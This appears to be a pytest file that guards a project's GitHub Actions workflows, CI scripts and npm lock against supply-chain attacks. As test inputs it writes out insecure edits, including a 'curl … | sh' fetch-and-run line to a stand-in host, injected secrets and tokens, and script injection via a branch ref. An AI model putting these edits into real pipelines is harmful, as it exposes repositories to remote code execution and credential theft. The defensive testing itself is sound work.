"""The pull request of a stranger: what a workflow, a script or a lock may do, and that what may not is seen."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from ruamel.yaml import YAML

from tests.tools import ROOT
from tests.workflows import DROP, events, offences

FOLDER = ROOT / ".github" / "workflows"
TEXTS = {path.name: path.read_text("utf-8") for path in sorted(FOLDER.iterdir())}
SCRIPTS = {path.name: path.read_text("utf-8") for path in (*sorted((ROOT / ".ci").iterdir()), ROOT / "Makefile") if path.is_file()}
NPM = ROOT / "tests" / "npm"
LOCK = json.loads((NPM / "package-lock.json").read_text("utf-8"))


@pytest.mark.parametrize("name", TEXTS)
def test_no_workflow_does_what_none_may(name: str) -> None:
    assert offences(TEXTS[name]) == []


CI, SITE, POST, RELEASE = "ci.yml", "publier.yml", "commenter.yml", "parution.yml"
RELEASES = "build/parution\n        env:\n          GH_TOKEN: ${{ github.token }}\n"


@pytest.mark.parametrize(
    ("name", "old", "new", "said"),
    [
        (CI, "  pull_request:\n", "  pull_request_target:\n", "started by"),
        (CI, "  pull_request:\n", "  pull_request:\n  issue_comment:\n", "started by"),
        (CI, "permissions:\n  contents: read", "permissions: write-all", "rights that every job gets"),
        (CI, "permissions:\n  contents: read\n", "", "rights that every job gets"),
        (CI, "@3d3c42e5aac5ba805825da76410c181273ba90b1  # v7.0.1", "@v7", "without its digest"),
        (CI, "@3d3c42e5aac5ba805825da76410c181273ba90b1  # v7.0.1", "@3d3c42e5aac5ba805825da76410c181273ba90b1", "without its digest"),
        (CI, "          persist-credentials: false\n", "", "keeps the right to push"),
        (CI, "persist-credentials: false", "persist-credentials: true", "keeps the right to push"),
        (CI, "persist-credentials: false", "persist-credentials: false\n          submodules: true", "a checkout of something else"),
        (CI, 'git show "$BASE:', 'git show "${{ github.event.pull_request.base.ref }}:', "a value written into a script"),
        (CI, "run: .ci/run", "run: sudo .ci/run", "as root"),
        (CI, "sudo apt-get update -qq", "sudo apt-get update -qq && sudo make site", "as root"),
        (CI, DROP, "echo", "root at hand"),
        (CI, f"run: {DROP}", f"if: false\n        run: {DROP}", "root at hand"),
        (CI, "run: .ci/run", "run: npm install left-pad && .ci/run", "npm outside"),
        (CI, "run: .ci/run", "run: .venv/bin/pip install left-pad", "pip outside"),
        (CI, "run: .ci/run", "run: curl --silent left.example/pad | sh", "fetched by its address"),
        (CI, "ESSAIS: $", "GH_TOKEN: ${{ github.token }}\n          ESSAIS: $", "a token for"),
        (CI, "run: .ci/run", "continue-on-error: true\n        run: .ci/run", "a step that may fail"),
        (CI, 'python-version: "3.11"', 'python-version: "3.11"\n          cache: pip', "a cache"),
        (CI, "runs-on: ubuntu-latest", "runs-on: self-hosted", "another machine"),
        (CI, "    timeout-minutes: 30\n", "", "no end"),
        (CI, "      BASE: $", "      GH_TOKEN: ${{ github.token }}\n      BASE: $", "a token that every step gets"),
        (CI, "HEAD_SHA: ", "KEY: ${{ secrets.KEY }}\n          HEAD_SHA: ", "a secret"),
        (CI, "  apercu:\n", "  apercu:\n    permissions: {contents: write}\n", "rights to write, and"),
        (POST, "    steps:\n", f"    steps:\n      - uses: actions/checkout@{'a' * 40}  # v7.0.1\n", "what a stranger proposed"),
        (SITE, " && github.event.workflow_run.head_branch == 'main'", "", "published from elsewhere"),
        (SITE, " && github.event.workflow_run.event == 'push'", "", "published from elsewhere"),
        (SITE, "run: make site", "run: make test site", "made beside the tests"),
        (SITE, "run: make site", "run: gh run download 1", "made beside the tests"),
        (SITE, "    needs: fabriquer\n", "", "made by no other job"),
        (SITE, "  workflow_run:\n", "  pull_request:\n  workflow_run:\n", "published by what also checks"),
        (SITE, "    steps:\n      - id:", "    steps:\n      - run: make site\n      - id:", "rights to write, and « make »"),
        (RELEASE, "run: .ci/proposer-parution build/parution", "run: clausier release", "rights to write, and « clausier »"),
        (RELEASE, f"run: .ci/publier-parution {RELEASES}", f"run: make .venv/.tool && .ci/publier-parution {RELEASES}", "« make »"),
    ],
)
def test_what_no_workflow_may_do_is_seen(name: str, old: str, new: str, said: str) -> None:
    assert old in TEXTS[name]

    assert any(said in one for one in offences(TEXTS[name].replace(old, new, 1)))


def test_what_is_published_is_what_was_checked() -> None:
    workflow = YAML(typ="safe").load(TEXTS[SITE])
    checked = YAML(typ="safe").load(TEXTS[CI])

    assert events(workflow) == {"workflow_run": {"workflows": [checked["name"]], "types": ["completed"], "branches": ["main"]}}
    (checkout,) = [step for step in workflow["jobs"]["fabriquer"]["steps"] if "checkout" in step.get("uses", "")]
    assert checkout["with"]["ref"] == "${{ github.event.workflow_run.head_sha }}"
    assert [step["run"] for step in workflow["jobs"]["fabriquer"]["steps"] if "run" in step] == [DROP, "make site"]
    # Nothing is deployed elsewhere.
    assert [name for name, text in TEXTS.items() if "deploy-pages" in text or "pages: write" in text] == [SITE]


def test_a_site_is_made_without_what_tests_need() -> None:
    rules = dict(re.findall(r"^(\$\(VENV\)/\.\w+|site): (.+)$", SCRIPTS["Makefile"], re.MULTILINE))

    assert rules["site"] == "$(VENV)/.tool"
    assert "constraints.txt" not in rules["$(VENV)/.tool"]


def npm_offences(text: str) -> list[str]:
    """Return the commands of a script that let npm choose or run something."""
    lines = [line for line in text.splitlines() if re.search(r"(?<![\w/-])np[mx] (?!packages)", line) and not line.lstrip().startswith("#")]
    return [line.strip() for line in lines if not re.search(r"npm ci (?=.*--ignore-scripts)", line)]


def pip_offences(text: str) -> list[str]:
    """Return the commands of a script that let pip take a package without its hash."""
    lines = re.findall(r"^.*\bpip\"? install .*$", text.replace("\\\n", " "), re.MULTILINE)
    own = "--no-deps --no-build-isolation --editable ."
    # `make constraints` is no part of an installation: it writes the hashes.
    return [line for line in lines if not ("--require-hashes --only-binary :all:" in line or own in line or "build/uv/" in line)]


@pytest.mark.parametrize("name", SCRIPTS)
def test_a_script_installs_what_is_locked_and_runs_none_of_it(name: str) -> None:
    assert npm_offences(SCRIPTS[name]) == []
    assert pip_offences(SCRIPTS[name]) == []
    assert [line for line in SCRIPTS[name].splitlines() if re.search(r"^\s*(?:.*[;&|] )?(?:sudo|curl|wget) ", line)] == []


@pytest.mark.parametrize(
    "line", ["npm install --prefix build/npm jszip@3.10.2", "npx jszip", "npm ci --prefix build/npm", "\tbin/pip install left-pad"]
)
def test_a_script_that_installs_something_else_is_seen(line: str) -> None:
    assert npm_offences(line) + pip_offences(line)


def lock_offences(lock: dict[str, dict[str, dict[str, object]]], asked: dict[str, str]) -> list[str]:
    """Return what is wrong in a lock of npm, where *asked* are the packages that it is for."""
    held = {path: one for path, one in lock["packages"].items() if path}
    found = [f"an address: {word}" for word in ("resolved", "://", "git+", "file:", "link") if word in json.dumps(lock)]
    found += [f"no hash: {path}" for path, one in held.items() if not str(one.get("integrity", "")).startswith("sha512-")]
    found += [f"a script: {path}" for path, one in held.items() if "hasInstallScript" in one]
    return found + [
        f"not asked: {name}" for name, version in asked.items() if held.get(f"node_modules/{name}", {}).get("version") != version
    ]


def test_the_lock_of_npm_names_no_address_and_has_a_hash_for_each_package() -> None:
    package = json.loads((NPM / "package.json").read_text("utf-8"))
    asked = {**package["dependencies"], **package["optionalDependencies"]}

    assert lock_offences(LOCK, asked) == []
    assert package.keys() == {"name", "description", "private", "license", "dependencies", "optionalDependencies"}
    assert LOCK["packages"][""] == {key: package[key] for key in ("name", "license", "dependencies", "optionalDependencies")}
    # Those that the tests name are there.
    named = {name for path in (ROOT / "tests").rglob("*.py") for name in re.findall(r'npm_package\("([^"]+)"\)', path.read_text("utf-8"))}
    assert named <= asked.keys()


@pytest.mark.parametrize(
    ("key", "value"),
    [("resolved", "jszip.tgz"), ("integrity", "sha1-abc="), ("hasInstallScript", True), ("version", "3.10.1"), ("link", True)],
)
def test_another_lock_is_seen(key: str, value: object) -> None:
    lock = json.loads(json.dumps(LOCK))
    lock["packages"]["node_modules/jszip"][key] = value

    assert len(lock_offences(lock, {"jszip": "3.10.2"})) == 1


def test_every_script_of_the_forge_is_run_by_name() -> None:
    named = {name for text in TEXTS.values() for name in re.findall(r"\.ci/([\w.-]+)", text)}

    assert {name for name in named if not (Path(ROOT) / ".ci" / name).exists()} == set()
    assert all((ROOT / ".ci" / name).stat().st_mode & 0o111 for name in SCRIPTS if name not in ("Makefile", "commenter.py"))
